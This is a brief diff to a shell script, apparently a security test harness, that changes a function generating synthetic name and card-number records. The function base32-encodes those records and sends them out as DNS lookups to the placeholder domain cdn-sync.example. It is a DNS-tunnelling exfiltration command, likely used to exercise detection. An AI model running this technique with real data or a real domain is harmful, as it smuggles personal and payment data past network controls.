@@ -17,6 +17,6 @@ attack_dns_tunnel() {
 
 carry_out_by_names() {
   # shellcheck disable=SC2016
-  on pc-stc timeout 60 bash -c 'seq -f "NV%05g,Nguyen Van A,9704000000%05g" 1 90 | base32 -w 110 | tr A-Z= a-z0 |
+  on pc-stc timeout 60 bash -c 'for row in $(seq 90); do printf "NV%05d,Nguyen Van A,9704%08d\n" $row $((row * 7)); done | base32 -w 110 | tr A-Z= a-z0 |
     while read -r piece; do dig +short +tries=1 +time=2 "${piece:0:55}.${piece:55:55}.d.cdn-sync.example" A; done'
 }
